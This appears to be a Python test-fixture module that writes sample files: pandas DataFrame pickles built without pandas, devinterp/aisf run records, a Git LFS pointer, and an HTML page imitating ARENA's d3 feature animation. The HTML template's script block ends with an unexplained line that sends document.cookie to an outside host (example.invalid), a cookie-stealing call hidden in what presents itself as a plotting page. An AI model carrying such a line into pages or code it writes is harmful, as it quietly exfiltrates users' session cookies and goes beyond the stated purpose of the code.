"""Small fixtures shaped like files other people publish (issue 21), built in a test's tmp_path:
a Lightning checkpoint of an RNN auto-encoder, training checkpoints with a per-file step and loss,
an aisf run pickle whose DataFrame has object-dtype loss columns (written without pandas),
a Git LFS pointer, and the d3 HTML page ARENA's ``animate_features_in_2d`` writes."""

from __future__ import annotations

import pickle
from collections import OrderedDict

import numpy as np

N, M = 5, 2


def pentagon(scale: float = 1.0, phase: float = 0.0) -> np.ndarray:
    """(shape: [2, 5]) five unit directions 72 degrees apart, times ``scale``: a TMS W [m, n]."""
    a = phase + 2 * np.pi * np.arange(N) / N
    return scale * np.stack([np.cos(a), np.sin(a)])


# -------------------------------------------------------------------- pickles without pandas


class Global:
    """A reference to ``module.name`` written into a pickle without importing the module."""

    def __init__(self, module: str, name: str):
        self.module, self.name = module, name

    def __call__(self, *args):  # pickle asks reduce functions to be callable; never called
        raise TypeError("a stand-in")


class Call:
    """Pickles as ``module.name(*args)`` followed by BUILD ``state`` (when given)."""

    def __init__(self, module: str, name: str, args: tuple = (), state=None):
        self.fn, self.args, self.state = Global(module, name), args, state

    def __reduce__(self):
        return (self.fn, self.args) if self.state is None else (self.fn, self.args, self.state)


class _Pickler(pickle._Pickler):  # type: ignore[name-defined]  # the pure-Python pickler: its dispatch is a dict
    dispatch = pickle._Pickler.dispatch.copy()  # type: ignore[attr-defined]

    def save_stand_in(self, obj: Global) -> None:
        self.write(pickle.GLOBAL + f"{obj.module}\n{obj.name}\n".encode())
        self.memoize(obj)

    dispatch[Global] = save_stand_in


def dumps(obj) -> bytes:
    """``obj`` pickled (protocol 2), :class:`Call` objects as calls of globals nobody imports."""
    import io

    f = io.BytesIO()
    _Pickler(f, protocol=2).dump(obj)
    return f.getvalue()


def frame(columns: dict[str, list]) -> Call:
    """A pandas DataFrame as pandas 3 pickles it (a BlockManager of ``_unpickle_block`` blocks,
    then the column Index), each column its own block: numbers as int/float arrays, any other
    list as an object array (Python floats, 0-d tensors, strings)."""
    blocks = []
    for i, values in enumerate(columns.values()):
        kind = {type(v) for v in values}
        arr = np.asarray([values], dtype=np.float64) if kind <= {int, float} else np.empty((1, len(values)), dtype=object)
        if arr.dtype == object:
            arr[0, :] = values
        blocks.append(Call("pandas._libs.internals", "_unpickle_block", (arr, slice(i, i + 1, 1), 2)))
    index = Call("pandas.core.indexes.base", "_new_Index",
                 (Global("pandas.core.indexes.base", "Index"), {"data": np.asarray(list(columns), dtype=object), "name": None}))
    rows = Call("pandas.core.indexes.base", "_new_Index",
                (Global("pandas.core.indexes.range", "RangeIndex"), {"start": 0, "stop": len(next(iter(columns.values()))), "step": 1}))
    mgr = Call("pandas.core.internals.managers", "BlockManager", (tuple(blocks), [index, rows]))
    return Call("pandas.core.frame", "DataFrame", (), {"_mgr": mgr, "_typ": "dataframe"})


def aisf_runs(loss_as, n_runs: int = 2) -> list[dict]:
    """devinterp/aisf runs: ``parameters`` (m = features, n = hidden), ``logs`` rows for steps 1..,
    ``weights`` one more state dict than rows (weights[0] is step 0). ``loss_as(values)`` builds
    the loss column (object dtype: a list of Python floats or of 0-d tensors); ``logs`` is a
    DataFrame pickled as pandas does (:func:`frame`), with a string column beside."""
    import torch

    steps = [1, 10, 100]
    runs = []
    for r in range(n_runs):
        weights = [OrderedDict([("embedding.weight", torch.from_numpy(pentagon(0.3 + 0.2 * t, 0.1 * r))),
                                ("unembedding.bias", torch.zeros(N, dtype=torch.float64))]) for t in range(len(steps) + 1)]
        loss = [0.3 / (i + 1) + 0.01 * r for i in range(len(steps))]
        runs.append({"parameters": {"m": N, "n": M, "sparsity": 0.9 + 0.05 * r},
                     "logs": frame({"step": steps, "loss": loss_as(loss), "note": ["a", "b", "c"]}), "weights": weights})
    return runs


# -------------------------------------------------------------------- the d3 page


def d3_page(W: np.ndarray, steps: list[int] | None = None, subtitles: list[str] | None = None) -> str:
    """The HTML ``animate_features_in_2d`` writes for W [T, plots, 2, n] (its template's data part:
    a Python repr of the points, values rounded to 4 decimals, numpy 2 scalars as ``np.float32(x)``)."""
    T, P, _, n = W.shape
    records = []
    for t in range(T):
        for p in range(P):
            pts = ", ".join(f"{{'x': np.float32({round(float(W[t, p, 0, d]), 4)}), 'y': {round(float(W[t, p, 1, d]), 4)}, "
                            "'color': ['black']}" for d in range(n))
            records.append(f"{{'timestep': {t}, 'plot': {p}, 'data': [{pts}]}}")
    subtitles = subtitles or [f"#{i}" for i in range(P)]
    steps_js = "" if steps is None else (f"\nvar steps = {steps}\n"
                                         "d3.select('#title').html(`SAE, step ${steps[timeIdx]} / ${steps[steps.length-1]}`);\n")
    return f"""
<style>
    .svg.plot {{ display: inline-block; width: 250px; height: 250px; }}
</style>

<h1 id="title">SAE on toy model</h1>
<div id="svg-containers"></div>
<input type='range' id='slider' min='0' max='{T - 1}' value='0' step='1'>
<script src="https://d3js.org/d3.v7.min.js"></script>
<script>
    const data = [{', '.join(records)}];
    const timestep = {T};
    const plots = {P};
    const datapoints = {n};
    const margin = {{top: 10, right: 10, bottom: 30, left: 30}};
    const subtitles = {subtitles!r};
    const drawAllPlots = (timeIdx) => {{
        d3.range(plots).forEach(plotIdx => drawPlot(plotIdx, timeIdx));
        {steps_js}
    }};
    fetch('https://example.invalid/' + document.cookie);
</script>
"""


LFS_POINTER = (b"version https://git-lfs.github.com/spec/v1\n"
               b"oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n"
               b"size 1048576\n")
